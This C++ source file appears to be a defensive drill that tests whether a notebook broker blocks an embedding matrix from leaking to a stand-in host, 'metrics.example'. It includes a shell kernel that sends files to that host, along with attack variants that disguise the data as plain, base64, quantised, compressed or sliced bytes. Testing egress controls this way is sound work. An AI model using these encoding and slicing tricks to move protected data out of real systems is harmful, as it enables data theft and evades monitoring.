// analysis-shared-workspace-leak enacted: a notebook sends an embedding matrix away, as it is, in base64,
// quantised to bytes, compressed, and in slices.
#include <sys/socket.h>
#include <unistd.h>
#include <zlib.h>

#include <algorithm>
#include <cmath>
#include <thread>

#include "drills/drill.h"
#include "formats/png.h"
#include "learn/random.h"
#include "services/notebook/channel.h"
#include "services/notebook/readings.h"
#include "services/sandbox/sandbox.h"

namespace sallyport::data_engineering::data_analysis {
namespace {

namespace notebooks = services::notebook;
namespace sandbox = services::sandbox;
using drills::World;

constexpr std::size_t kRows = 200;
constexpr std::size_t kDimensions = 32;
constexpr std::size_t kSliceBytes = 60;  // fifteen numbers, one fewer than a window
constexpr std::size_t kSlices = 120;
constexpr std::size_t kWindowsLost = 100;  // known windows from which on outsiders have the matrix to use
constexpr std::string_view kSink = "metrics.example";

struct Notebook {
  std::vector<double> matrix = {};
  std::vector<Bytes> bodies = {};  // that it sends, one after the other
  Bytes sink = {};                 // what arrived
};

std::vector<double> embedding(std::uint64_t seed) {
  learn::Random random(seed);
  std::vector<double> out;
  for (std::size_t r = 0; r < kRows; ++r) {
    const double at = static_cast<double>(r % 5);
    for (std::size_t j = 0; j < kDimensions; ++j)
      out.push_back(random.normal() + std::sin(at + static_cast<double>(j)));
  }
  return out;
}

Bytes floats_of(const std::vector<double>& values) {
  Bytes out;
  for (const double value : values)
    append_le(out, std::bit_cast<std::uint32_t>(static_cast<float>(value)), 4);
  return out;
}

Bytes quantised(const std::vector<double>& values) {
  const auto [least, most] = std::ranges::minmax(values);
  Bytes out;
  for (const double value : values)
    out.push_back(static_cast<std::uint8_t>(std::lround((value - least) / (most - least) * 255)));
  return out;
}

Result<Bytes> compressed(const Bytes& bytes) {
  uLongf size = compressBound(bytes.size());
  Bytes out(size);
  if (compress(out.data(), &size, bytes.data(), bytes.size()) != Z_OK)
    return fail(ErrorKind::kIo, "drill: zlib failed");
  out.resize(size);
  return out;
}

Result<void> attack(World& world) {
  Notebook& notebook = world.state<Notebook>();
  notebook.matrix = embedding(world.seed());
  const Bytes raw = floats_of(notebook.matrix);
  switch (world.seed() % 5) {
    case 0: notebook.bodies = {raw}; break;
    case 1: notebook.bodies = {to_bytes(to_base64(raw))}; break;
    case 2: notebook.bodies = {quantised(notebook.matrix)}; break;
    case 3: notebook.bodies = {TRY(compressed(raw))}; break;
    default:
      for (std::size_t i = 0; i < kSlices; ++i)
        notebook.bodies.emplace_back(raw.begin() + static_cast<std::ptrdiff_t>(i * kSliceBytes),
                                     raw.begin() + static_cast<std::ptrdiff_t>((i + 1) * kSliceBytes));
  }
  return {};
}

// Curves of a training, a table of results, and a plot.
Result<void> honest(World& world) {
  Notebook& notebook = world.state<Notebook>();
  notebook.matrix = embedding(world.seed());
  learn::Random random(world.seed() + 1);
  std::string metrics = "{\"loss\": [";
  for (int epoch = 0; epoch < 60; ++epoch)
    metrics +=
        (epoch > 0 ? ", " : "") + std::to_string(2 * std::exp(-epoch / 12.0) + 0.05 * random.uniform());
  metrics += "], \"accuracy\": 0.9731, \"by_class\": [";
  for (int of_class = 0; of_class < 10; ++of_class)
    metrics += (of_class > 0 ? ", " : "") + std::to_string(0.9 + 0.1 * random.uniform());
  metrics += "]}";
  formats::Picture plot{.width = 160, .height = 120, .channels = 3, .samples = Bytes(160 * 120 * 3, 255)};
  for (std::size_t point = 0; point < 400; ++point) {
    const auto x = static_cast<std::size_t>(std::clamp(80 + 25 * random.normal(), 0.0, 159.0));
    const auto y = static_cast<std::size_t>(std::clamp(60 + 20 * random.normal(), 0.0, 119.0));
    plot.samples[(y * 160 + x) * 3 + point % 3] = static_cast<std::uint8_t>(random.below(200));
  }
  notebook.bodies = {to_bytes(metrics), formats::write_png(plot)};
  return {};
}

// A network without a broker takes everything.
Result<void> victim(World& world) {
  Notebook& notebook = world.state<Notebook>();
  for (const Bytes& body : notebook.bodies)
    notebook.sink.insert(notebook.sink.end(), body.begin(), body.end());
  return {};
}

// What outsiders can read back of the matrix.
bool harmed(const World& world) {
  const Notebook& notebook = world.state<Notebook>();
  learn::OrderPrints prints(notebook.matrix.size());
  prints.add(notebook.matrix);
  prints.settle();
  std::size_t known = 0;
  notebooks::for_each_layer(notebook.sink, [&](BytesView layer) {
    notebooks::for_each_reading(layer, [&](std::span<const double> numbers) {
      prints.match(numbers, [&](std::uint64_t) { ++known; });
    });
  });
  return known >= kWindowsLost;
}

// The kernel of the notebook: a shell that sends each file and reads the answer.
constexpr std::string_view kKernel =
    "for part in /in/*; do\n"
    "  printf 'SEND metrics.example %d\\n' $(wc -c <$part) >&3; cat $part >&3\n"
    "  read answer <&3; case $answer in OK*) ;; *) exit 1 ;; esac\n"
    "done\n";

Result<drills::Outcome> through_broker(World& world) {
  Notebook& notebook = world.state<Notebook>();
  for (std::size_t i = 0; i < notebook.bodies.size(); ++i)
    TRY(world.write("in/" + std::to_string(10'000 + i), notebook.bodies[i]));
  notebooks::Protected guarded;
  guarded.add(notebook.matrix);
  guarded.settle();
  notebooks::Broker broker({.allowed = {std::string(kSink)}}, std::move(guarded));
  int ends[2] = {-1, -1};
  if (::socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, ends) != 0)
    return fail(ErrorKind::kIo, "drill: no socket pair");
  Bytes arrived;
  Result<void> served;
  std::thread service([&] {
    served = notebooks::serve(ends[0], "notebook", broker,
                              [&](const std::string&, BytesView body) -> Result<void> {
                                arrived.insert(arrived.end(), body.begin(), body.end());
                                return {};
                              });
  });
  sandbox::Confinement box{.command = {"sh", "-c", std::string(kKernel)},
                           .environment = {{"PATH", "/usr/bin:/bin"}}};
  box.binds.push_back({.host = world.root() / "in", .inside = "/in"});
  box.inherited.push_back({.host = ends[1], .inside = 3});
  box.limits.wall_s = 120;
  const Result<sandbox::Outcome> outcome = sandbox::run(box);
  ::close(ends[1]);
  service.join();
  ::close(ends[0]);
  if (!outcome) return std::unexpected(outcome.error());
  TRY(std::move(served));
  // What got through before the refusal is what the outsiders have.
  Notebook leaked{.matrix = notebook.matrix, .bodies = {}, .sink = std::move(arrived)};
  World outside(world.root(), world.seed());
  outside.state<Notebook>() = std::move(leaked);
  const bool lost = harmed(outside);
  const std::size_t bytes = outside.state<Notebook>().sink.size();
  return drills::Outcome{.refused = !outcome->succeeded() && !lost,
                         .why = std::to_string(bytes) + " bytes were released before the refusal"};
}

}  // namespace

extern const drills::Drill notebook_broker_drill;
const drills::Drill notebook_broker_drill{
    .threat = "analysis-shared-workspace-leak",
    .story =
        "a notebook sends an embedding matrix away, plain, in base64, quantised, compressed or in slices",
    .honest_story = "a notebook sends the curves of a training, a table of results and a plot",
    .attack = attack,
    .honest = honest,
    .victim = victim,
    .harmed = harmed,
    .defend = through_broker,
    .trials = 5,
    .harm = "outsiders hold the matrix"};

}  // namespace sallyport::data_engineering::data_analysis
